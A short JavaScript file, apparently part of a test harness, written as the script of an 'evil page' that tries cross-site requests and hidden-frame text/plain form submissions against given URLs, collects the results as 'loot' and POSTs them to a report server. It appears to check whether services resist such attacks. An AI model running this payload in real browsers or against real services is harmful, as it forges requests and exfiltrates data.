// Runs in a browser, as the script of an evil page (see evil-page.ts): tries everything, then tells its own server what it got.
const { attempts, report } = globalThis.task
const patienceMs = 5000

const loot = {}
for (const [name, attempt] of Object.entries(attempts)) loot[name] = await got(attempt, name)
await fetch(report, { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) })

async function got({ url, init, form }, name) {
  if (form !== undefined) return send(url, form, name)
  try {
    const answer = await fetch(url, { signal: AbortSignal.timeout(patienceMs), ...init })
    return answer.type === 'opaque' ? 'sent' : `read ${answer.status} ${await answer.text()}`
  } catch {
    return 'nothing'
  }
}

/** A form in a frame, which no page may look into. */
async function send(action, field, target) {
  const frame = Object.assign(document.createElement('iframe'), { name: target })
  const form = Object.assign(document.createElement('form'), { method: 'POST', enctype: 'text/plain', action, target })
  form.append(Object.assign(document.createElement('input'), field))
  document.body.append(frame, form)
  const loaded = new Promise((done) => frame.addEventListener('load', done))
  form.submit()
  await Promise.race([loaded, new Promise((done) => setTimeout(done, patienceMs))])
  return 'sent'
}
